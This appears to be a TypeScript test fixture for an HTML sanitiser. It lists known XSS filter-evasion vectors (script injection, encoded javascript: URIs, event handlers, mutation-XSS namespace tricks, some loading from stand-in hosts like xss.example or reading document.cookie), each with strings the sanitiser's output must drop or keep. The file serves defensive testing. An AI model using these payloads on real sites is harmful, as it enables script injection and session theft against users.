/**
 * Known XSS filter-evasion vectors, in the style of the OWASP XSS Filter Evasion Cheat Sheet and
 * the published mutation-XSS research, written out here one by one. html-sanitiser.test.ts runs
 * each through the sanitiser and checks what a browser would find in the output. `absent` lists
 * strings that must not survive even as text (the content of dropped elements); `keeps` lists
 * strings that must survive (so a vector that is partly legitimate is not passed by emptying it).
 */
export interface XssVector {
  readonly name: string;
  readonly html: string;
  readonly absent?: readonly string[];
  readonly keeps?: readonly string[];
}

const B64_SCRIPT = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
const DECIMAL_JS = [...'javascript:alert(1)'].map((c) => `&#${c.charCodeAt(0)};`).join('');
const PADDED_DECIMAL_JS = [...'javascript:alert(1)'].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
const HEX_JS = [...'javascript:alert(1)'].map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()}`).join('');

export const XSS_VECTORS: readonly XssVector[] = [
  // Plain and case-mangled script elements
  { name: 'script element', html: '<script>alert(1)</script>', absent: ['alert'] },
  { name: 'external script', html: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>', absent: ['xss.example'] },
  { name: 'mixed-case script', html: '<ScRiPt>alert(1)</sCrIpT>', absent: ['alert'] },
  { name: 'script with slash separator', html: '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>', absent: ['xss.example'] },
  { name: 'script src without space', html: '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>', absent: ['xss.example'] },
  { name: 'extraneous open brackets', html: '<<SCRIPT>alert("XSS");//<</SCRIPT>', absent: ['alert'] },
  { name: 'unclosed script with protocol-relative src', html: '<SCRIPT SRC=//xss.example/.j>', absent: ['xss.example'] },
  { name: 'script inside a title breakout', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>', absent: ['alert'] },
  { name: 'split tag name', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'NUL inside the tag name', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'conditional comment', html: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->", absent: ['alert', 'SCRIPT'] },

  // javascript: in attributes, every encoding
  { name: 'img javascript src', html: '<IMG SRC="javascript:alert(\'XSS\');">' },
  { name: 'img unquoted javascript src', html: "<IMG SRC=javascript:alert('XSS')>" },
  { name: 'img mixed-case scheme', html: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'grave-accent quoted src', html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'link javascript href', html: '<a href="javascript:alert(1)">click</a>', keeps: ['click'] },
  { name: 'link mixed-case scheme', html: '<a href="JaVaScRiPt:alert(1)">click</a>', keeps: ['click'] },
  { name: 'decimal entities', html: `<a href="${DECIMAL_JS}">decimal</a>`, keeps: ['decimal'] },
  { name: 'padded decimal entities without semicolons', html: `<a href="${PADDED_DECIMAL_JS}">padded</a>`, keeps: ['padded'] },
  { name: 'hex entities without semicolons', html: `<a href="${HEX_JS}">hex</a>`, keeps: ['hex'] },
  { name: 'one encoded letter', html: '<a href="jav&#97;script:alert(1)">x</a>' },
  { name: 'named entity colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'colon entity without semicolon', html: '<a href=javascript&#58alert(1)>x</a>' },
  { name: 'embedded raw tab', html: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'named tab entity', html: '<a href="java&Tab;script:alert(1)">x</a>' },
  { name: 'encoded newline', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'named newline entity', html: '<a href="&#x6A;avascript&NewLine;:alert(1)">x</a>' },
  { name: 'encoded carriage return', html: '<a href="jav&#x0D;ascript:alert(1)">x</a>' },
  { name: 'raw NUL in scheme', html: '<a href="java\u0000script:alert(1)">x</a>' },
  { name: 'spaces and control characters before the scheme', html: '<a href=" &#14;  javascript:alert(1)">x</a>' },
  { name: 'leading C0 control', html: '<a href="\u0001javascript:alert(1)">x</a>' },
  { name: 'comment inside the scheme', html: '<a href="javas<!-- -->cript:alert(1)">x</a>' },
  { name: 'vbscript', html: '<a href="vbscript:msgbox(1)">vb</a>' },
  { name: 'mixed-case vbscript', html: '<a href="VBScript:msgbox(1)">vb</a>' },
  { name: 'data URI html', html: `<a href="data:text/html;base64,${B64_SCRIPT}">data</a>`, absent: [B64_SCRIPT] },
  { name: 'data URI with entity-encoded scheme', html: `<a href="&#100;ata:text/html;base64,${B64_SCRIPT}">data</a>`, absent: [B64_SCRIPT] },
  { name: 'protocol-relative link', html: '<a href="//xss.example/">x</a>', absent: ['xss.example'] },
  { name: 'backslash protocol-relative link', html: '<a href="\\\\xss.example\\">x</a>', absent: ['xss.example'] },
  { name: 'credentials that fake the host', html: '<a href="https://bank.example@xss.example/">x</a>', absent: ['xss.example'] },

  // Event handlers and malformed attributes
  { name: 'onmouseover on a link', html: '<a onmouseover="alert(document.cookie)">xxs link</a>', absent: ['onmouseover', 'cookie'], keeps: ['xxs link'] },
  { name: 'unquoted onmouseover', html: '<a onmouseover=alert(document.cookie)>xxs link</a>', absent: ['onmouseover'] },
  { name: 'malformed img quotes', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', absent: ['alert'] },
  { name: 'img onerror', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', absent: ['onerror'] },
  { name: 'img onerror with padded entities', html: `<img src=x onerror="${PADDED_DECIMAL_JS}">`, absent: ['onerror'] },
  { name: 'empty src then handler', html: "<IMG SRC= onmouseover=\"alert('xxs')\">", absent: ['onmouseover'] },
  { name: 'odd characters before the handler', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', absent: ['onload'] },
  { name: 'svg onload shorthand', html: "<svg/onload=alert('XSS')>", absent: ['onload', 'alert'] },
  { name: 'body onload', html: "<BODY ONLOAD=alert('XSS')>", absent: ['ONLOAD', 'onload'] },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>text</details>', absent: ['ontoggle'], keeps: ['text'] },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>', absent: ['onerror'] },
  { name: 'handler on an allowed tag', html: '<p onclick="alert(1)">para</p>', absent: ['onclick'], keeps: ['<p>para</p>'] },
  { name: 'half-open tag', html: '<IMG SRC="(\'XSS\')"' },
  { name: 'unterminated iframe', html: '<iframe src=http://xss.example/scriptlet.html <', absent: ['xss.example'] },
  { name: 'grave accent breaking out of a value', html: '<img src="x` onerror=alert(1)>', absent: ['onerror'] },
  { name: 'attribute breakout in title', html: '<a title="x&quot; onmouseover=&quot;alert(1)" href="https://ok.example/">t</a>' },
  { name: 'attribute breakout in href', html: '<a href="https://ok.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">t</a>' },
  { name: 'legitimate link with hostile extras', html: '<a href="https://ok.example/" onclick="alert(1)" style="color:red" target="_blank" rel="opener">ok</a>', absent: ['onclick', 'style', 'target', 'rel="opener"'], keeps: ['href="https://ok.example/"', 'rel="noopener noreferrer"'] },

  // Elements that load or frame content
  { name: 'input image', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { name: 'body background', html: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'img dynsrc', html: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { name: 'bgsound', html: '<BGSOUND SRC="javascript:alert(\'XSS\');">' },
  { name: 'stylesheet link', html: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { name: 'meta refresh to javascript', html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">', absent: ['refresh'] },
  { name: 'meta refresh to a data URI', html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${B64_SCRIPT}">`, absent: [B64_SCRIPT] },
  { name: 'iframe javascript src', html: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', absent: ['srcdoc', 'alert'] },
  { name: 'frameset', html: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  { name: 'table background', html: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'base href', html: '<BASE HREF="javascript:alert(\'XSS\');//">', absent: ['BASE', 'base'] },
  { name: 'object scriptlet', html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>', absent: ['xss.example'] },
  { name: 'object data URI', html: '<object data="data:text/html,<script>alert(1)</script>"></object>', absent: ['alert'] },
  { name: 'embed svg data URI', html: `<EMBED SRC="data:image/svg+xml;base64,${B64_SCRIPT}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`, absent: [B64_SCRIPT] },
  { name: 'button formaction', html: '<button formaction="javascript:alert(1)">x</button>', absent: ['formaction'] },
  { name: 'input formaction', html: '<form><input type="submit" formaction="javascript:alert(1)"></form>', absent: ['formaction'] },
  { name: 'isindex action', html: '<isindex action="javascript:alert(1)" type="image">' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>m</marquee>', absent: ['onstart'] },

  // Style and expression()
  { name: 'style element with javascript url', html: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>', absent: ['list-style'], keeps: ['<li>XSS'] },
  { name: 'style background url', html: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">', absent: ['STYLE', 'style'] },
  { name: 'style expression', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">', absent: ['expression'] },
  { name: 'style expression split by a comment', html: '<p style="x:expr/**/ession(alert(1))">p</p>', absent: ['ession'] },
  { name: 'style import', html: '<style>@import \'http://xss.example/xss.css\';</style>', absent: ['xss.example'] },

  // Namespace confusion and mutation XSS
  { name: 'noscript title breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', absent: ['onerror'] },
  { name: 'svg style', html: '<svg><style><img src=x onerror=alert(1)></style></svg>', absent: ['onerror'] },
  { name: 'math mglyph style comment', html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">', absent: ['onerror'] },
  { name: 'nested forms and math', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', absent: ['onerror'] },
  { name: 'svg paragraph style', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', absent: ['onerror'] },
  { name: 'math link', html: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', absent: ['xlink'] },
  { name: 'svg animate href', html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>', absent: ['animate'] },
  { name: 'template', html: '<template><script>alert(1)</script></template>', absent: ['alert'] },
  { name: 'xmp breakout', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', absent: ['onerror'] },
  { name: 'textarea breakout', html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', absent: ['onerror'] },
  { name: 'entity-encoded markup in option', html: '<select><option>&lt;script&gt;alert(1)&lt;/script&gt;</option></select>', absent: ['alert'] },

  // Comments, CDATA and processing instructions
  { name: 'comment closed early by --!>', html: '<!-- --!><script>alert(1)</script> -->', absent: ['alert(1)</script>'] },
  { name: 'comment hiding a tag in an attribute', html: '<!--<img src="--><img src=x onerror=alert(1)//">', absent: ['onerror'] },
  { name: 'CDATA section', html: '<![CDATA[<script>alert(1)</script>]]>', absent: ['CDATA'] },
  { name: 'processing instruction', html: '<?xml-stylesheet href="javascript:alert(1)"?>', absent: ['xml-stylesheet'] },
  { name: 'doctype', html: '<!DOCTYPE html><p>x</p>', absent: ['DOCTYPE'], keeps: ['<p>x</p>'] },

  // Unclosed and nested structure
  { name: 'unclosed link with nested bold', html: '<p><a href="javascript:alert(1)"><b>nested</b></a>', keeps: ['nested'] },
  { name: 'unclosed everything', html: '<div><p><b><i>unclosed', keeps: ['unclosed'] },
  { name: 'tag inside a tag', html: '<b <script>alert(1)//</script>' },
  { name: 'heading outside the allowlist', html: '<h1 onclick=alert(1)>Title</h1>', absent: ['onclick', '<h1'], keeps: ['Title'] },
  { name: 'escaped JavaScript string', html: '\\";alert(\'XSS\');//' },
  { name: 'deep nesting', html: `${'<blockquote>'.repeat(200)}deep${'</blockquote>'.repeat(200)}`, keeps: ['deep'] },
];
